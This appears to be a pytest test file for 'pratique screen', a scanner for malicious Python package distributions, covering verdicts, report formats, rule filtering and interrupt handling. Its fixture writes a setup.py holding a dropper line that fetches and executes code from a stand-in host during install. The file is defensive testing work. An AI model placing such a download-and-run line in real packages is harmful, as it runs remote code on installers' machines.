"""`pratique screen` with the real engine."""

from __future__ import annotations

import hashlib
import io
import json
import os
import signal
import subprocess
import sys
import tarfile
from pathlib import Path

import jsonschema
import pytest

from pratique.cli import main

_SCHEMA = json.loads((Path(__file__).parents[2] / "docs" / "report.schema.json").read_text(encoding="utf-8"))
_HONEST = {"PKG-INFO": "Metadata-Version: 2.1\nName: example-pkg\nVersion: 1.0\n", "example_pkg/__init__.py": "X = 1\n"}
_DROPPER = {
    **_HONEST,
    "setup.py": (
        "from urllib.request import urlopen\n"
        "from setuptools import setup\n"
        "exec(urlopen('http://192.0.2.7/stage').read())\n"
        "setup(name='example-pkg', version='1.0')\n"
    ),
}


def _sdist(folder: Path, files: dict[str, str], name: str = "example_pkg-1.0.tar.gz") -> Path:
    path = folder / name
    with tarfile.open(path, "w:gz") as archive:
        for member, text in files.items():
            info = tarfile.TarInfo(f"example_pkg-1.0/{member}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return path


def _lines(capsys: pytest.CaptureFixture[str]) -> list[dict[str, object]]:
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    for line in lines:
        jsonschema.validate(line, _SCHEMA)
    return lines


def test_an_honest_file_is_clean(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing found: status 0, and the line tells digest and size of the file."""
    path = _sdist(tmp_path, _HONEST)
    assert main(["screen", str(path), "--format", "jsonl"]) == 0
    (line,) = _lines(capsys)
    assert (line["target"], line["verdict"], line["error"]) == (str(path), "clean", None)
    assert (line["sha256"], line["bytes"]) == (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size)


def test_a_dropper_is_malicious(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Code fetched and executed while installing: status 1, and a finding that says file, line and phase."""
    assert main(["screen", str(_sdist(tmp_path, _DROPPER)), "--format", "jsonl"]) == 1
    (line,) = _lines(capsys)
    assert line["verdict"] == "malicious"
    findings = line["findings"]
    assert isinstance(findings, list)
    assert ("setup.py", 3, "install", "second-stage") in {
        (f["path"], f["line"], f["phase"], f["behaviour"]) for f in findings
    }


def test_a_folder_has_a_line_per_archive_and_an_error_wins(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Each archive is reported; one that cannot be opened makes the status 2 whatever else was found."""
    _sdist(tmp_path, _DROPPER)
    (tmp_path / "broken-1.0.zip").write_bytes(b"not an archive")
    assert main(["screen", str(tmp_path), "--format", "jsonl", "--jobs", "2"]) == 2
    verdicts = {Path(str(line["target"])).name: line["verdict"] for line in _lines(capsys)}
    assert verdicts == {"example_pkg-1.0.tar.gz": "malicious", "broken-1.0.zip": "error"}


def test_an_unpacked_tree_is_judged_like_its_archive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The same content gives the same verdict, as one line."""
    for name, text in _DROPPER.items():
        path = tmp_path / "tree" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert main(["screen", str(tmp_path / "tree"), "--format", "jsonl"]) == 1
    (line,) = _lines(capsys)
    assert line["verdict"] == "malicious"


def test_one_file_of_source_is_judged_by_itself(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A file that is no archive is screened as all that a distribution holds; its digest is that of its bytes."""
    path = tmp_path / "setup.py"
    path.write_text(_DROPPER["setup.py"], encoding="utf-8")
    assert main(["screen", str(path), "--format", "jsonl"]) == 1
    (line,) = _lines(capsys)
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    assert (line["verdict"], line["sha256"], line["bytes"]) == ("malicious", digest, path.stat().st_size)
    assert main(["screen", str(path), "--format", "sarif"]) == 1
    run = json.loads(capsys.readouterr().out)["runs"][0]
    assert {a["location"]["uri"].rpartition("/")[2] for a in run["artifacts"]} == {"setup.py"}


def test_a_chain_is_told_whole_to_tools(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A tool learns what a person does: that the chain is proven, its code, and the way from source to sink."""
    main(["screen", str(_sdist(tmp_path, _DROPPER)), "--format", "jsonl"])
    (line,) = _lines(capsys)
    findings = line["findings"]
    assert isinstance(findings, list)
    (chain,) = (f for f in findings if f["proven"])
    assert chain["code"].startswith("exec(urlopen(")
    assert [step["line"] for step in chain["flow"]] == [3, 3]
    assert chain["file_line"] == 3


def test_text_explains_a_dropper(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A person sees the verdict, the place, the code and what the attacker gains."""
    assert main(["screen", str(_sdist(tmp_path, _DROPPER))]) == 1
    out = capsys.readouterr().out
    for part in ("MALICIOUS", "setup.py:3", "exec(urlopen(", "gain", "1 artifact"):
        assert part in out


def test_an_unknown_rule_is_bad_usage(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A typing error in a rule's name does not screen with no rules at all."""
    assert main(["screen", str(_sdist(tmp_path, _DROPPER)), "--rules", "no-such-rule"]) == 2
    assert "pratique rules" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["flask (1).tar.gz", "réqu-1.0.tar.gz", "a\x1b[31m-1.0.tar.gz", "-.tar.gz", "x" * 240])
def test_a_file_is_screened_whatever_it_is_called(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A download that was renamed is judged by its content, and shown under the name it has here."""
    path = _sdist(tmp_path, _DROPPER, name)
    assert main(["screen", str(path), "--format", "jsonl"]) == 1
    (line,) = _lines(capsys)
    assert (line["target"], line["verdict"]) == (str(path), "malicious")


def test_only_the_named_rules_judge(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`--rules` leaves out every other rule's findings, from the report and from the verdict."""
    path = str(_sdist(tmp_path, _DROPPER))
    assert main(["screen", path, "--format", "jsonl", "--rules", "theft, look-alike"]) == 0
    (line,) = _lines(capsys)
    assert (line["verdict"], line["findings"]) == ("clean", [])
    assert main(["screen", path, "--format", "jsonl", "--rules", "theft,second-stage"]) == 1


def test_a_pipe_that_closes_early_is_no_error(tmp_path: Path) -> None:
    """`pratique screen ... | head` ends without a trace."""
    command = [sys.executable, "-m", "pratique", "screen", str(_sdist(tmp_path, _DROPPER))]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.close()
        assert process.stderr.read() == b""


def test_an_upstream_that_is_down_is_said(capsys: pytest.CaptureFixture[str]) -> None:
    """Where a release cannot be fetched, one line says which address failed and what to try."""
    assert main(["screen", "example-pkg==1.0", "--upstream", "http://127.0.0.1:9/simple/"]) == 2
    out, err = capsys.readouterr()
    assert (out, err.count("\n")) == ("", 1)
    assert "http://127.0.0.1:9/simple/example-pkg/ cannot be reached" in err
    assert "--upstream URL" in err


def test_an_interrupted_run_ends_without_traces(tmp_path: Path) -> None:
    """Ctrl-C reaches every process of the terminal; the run ends with 130 and says nothing more."""
    deep = tmp_path.joinpath(*["long" * 50] * 4)  # lines so long that a pipe which nobody empties stops the run
    deep.mkdir(parents=True)
    for number in range(200):
        _sdist(deep, _HONEST, f"example_pkg-1.{number}.tar.gz")
    command = [sys.executable, "-m", "pratique", "screen", str(deep), "--format", "jsonl", "--jobs", "1"]
    before = signal.signal(signal.SIGINT, signal.SIG_DFL)  # who runs in the background inherits that it is ignored
    try:
        started = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    finally:
        signal.signal(signal.SIGINT, before)
    with started as process:
        assert process.stdout is not None
        assert process.stderr is not None
        assert process.stdout.readline()
        os.killpg(process.pid, signal.SIGINT)
        process.stdout.read()
        assert process.stderr.read() == b""
    assert process.returncode == 130
